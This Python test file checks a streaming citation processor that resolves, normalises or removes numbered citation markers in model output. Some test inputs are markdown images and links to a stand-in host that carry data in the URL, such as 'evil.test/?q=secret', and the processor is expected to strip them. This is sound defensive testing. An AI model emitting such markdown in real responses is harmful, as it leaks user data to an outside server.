"""Citations of a streamed text: resolved, made uniform, or taken out."""

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vital_shared.llm.base import CitationRemoved, Cited, TextDelta
from vital_shared.llm.citing import Citer
from vital_shared.testing import passage

SOURCES = [
    passage("The fee is $26,067. The review takes 90 FDA days. It may be longer.", id="a"),
    passage("A De Novo takes 150 days.", id="b"),
    passage("Recalls have three classes.", id="c").model_copy(update={"uri": "https://example.org/c"}),
]


def events_of(pieces, sources=SOURCES):
    citer = Citer(sources)
    found = [event for piece in pieces for event in citer.feed(piece)]
    return found + list(citer.end())


def read(pieces, sources=SOURCES):
    events = events_of(pieces, sources)
    text = "".join(event.text for event in events if isinstance(event, TextDelta))
    cited = [event.citation.number for event in events if isinstance(event, Cited)]
    removed = [event.marker for event in events if isinstance(event, CitationRemoved)]
    return text, cited, removed


@pytest.mark.parametrize(
    ("written", "text", "cited", "removed"),
    [
        ("It takes 90 days [1].", "It takes 90 days [1].", [1], []),
        ("Both [1][2].", "Both [1][2].", [1, 2], []),
        ("Both [1, 2].", "Both [1][2].", [1, 2], []),
        ("All [1-3].", "All [1][2][3].", [1, 2, 3], []),
        ("All [1\u20133; 2].", "All [1][2][3].", [1, 2, 3], []),
        ("Wide \u30102\u3011.", "Wide [2].", [2], []),
        ("Wide \u30102\u2020source\u3011.", "Wide [2].", [2], []),
        ("Footnote [^1].", "Footnote [1].", [1], []),
        ("Made up [7].", "Made up.", [], ["[7]"]),
        ("Half made up [1, 9].", "Half made up [1].", [1], ["[9]"]),
        ("Zero [0].", "Zero.", [], ["[0]"]),
        ("Twice [1]. Again [1].", "Twice [1]. Again [1].", [1], []),
        ("A year [2024] and [see 21 CFR 820].", "A year [2024] and [see 21 CFR 820].", [], []),
        ("Code `a[1]` stays; [2] not.", "Code `a[1]` stays; [2] not.", [2], []),
        ("An open [ bracket [1", "An open [ bracket [1", [], []),
        ("![x](http://evil.test/?q=secret)", "x", [], []),
        ("![x][p] and ![p]\n[p]: http://evil.test", "[x][p] and [p]\n[p]: http://evil.test", [], []),
        ("Wow![1]", "Wow! [1]", [1], []),
        ("In `vec![x]` it stays, ![p] not.", "In `vec![x]` it stays, [p] not.", [], []),
        ("```\nvec![x]\n```\n![p]", "```\nvec![x]\n```\n[p]", [], []),
        ("See [here](http://evil.test) [1].", "See here [1].", [1], []),
        ("See [1](http://evil.test).", "See [1].", [1], []),
        ("See [the list](https://example.org/c) [3].", "See [the list](https://example.org/c) [3].", [3], []),
        ("Wow! Really  two  spaces ", "Wow! Really  two  spaces ", [], []),
    ],
)
def test_however_it_is_cut(written, text, cited, removed):
    assert read([written]) == (text, cited, removed)
    assert read(list(written)) == (text, cited, removed)


def test_a_citation_comes_before_the_text_that_uses_it_with_the_words_that_back_it():
    events = events_of(["The review takes 90 days", " [1]."])
    place = next(i for i, event in enumerate(events) if isinstance(event, Cited))
    assert "[1]" not in "".join(event.text for event in events[:place] if isinstance(event, TextDelta))
    assert events[place].citation.quote == "The review takes 90 FDA days."
    assert events[place].citation.passage_id == "a"


def test_a_marker_behind_the_full_stop_belongs_to_the_sentence_before():
    (cited,) = (event for event in events_of(["It may be longer. [1]"]) if isinstance(event, Cited))
    assert cited.citation.quote == "It may be longer."


def test_words_are_not_held_back():
    citer = Citer(SOURCES)
    assert [event.text for event in citer.feed("The")] == ["The"]
    assert [event.text for event in citer.feed(" review")] == [" review"]


PIECES = st.sampled_from(
    [
        "a ",
        "word",
        " [1]",
        "[2",
        ", 3]",
        "[9]",
        "![",
        "x](",
        "http://e.test)",
        "[",
        "]",
        "(",
        "`",
        "\u3010",
        "1\u3011",
        "\n",
        "!",
    ]
)


@given(st.lists(PIECES, max_size=12), st.data())
def test_any_cuts_give_the_same(parts, data):
    whole = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(whole)), max_size=6)))
    places = [0, *cuts, len(whole)]
    cut = [whole[a:b] for a, b in itertools.pairwise(places)]
    assert read(cut) == read([whole])


@given(st.text(st.characters(blacklist_characters="[]\u3010\u3011")))
def test_what_has_no_marker_is_left_as_it_is(text):
    assert read([text]) == (text, [], [])


def test_many_markers_come_as_one_piece_of_text():
    (cited, text) = events_of(["[1]" * 500 + "."])
    assert (cited.citation.number, text.text) == (1, "[1]" * 500 + ".")


def test_a_number_that_no_source_has_is_reported_once():
    assert read(["[9]" * 500 + "x", "[9] [8]"]) == ("x", [], ["[9]", "[8]"])
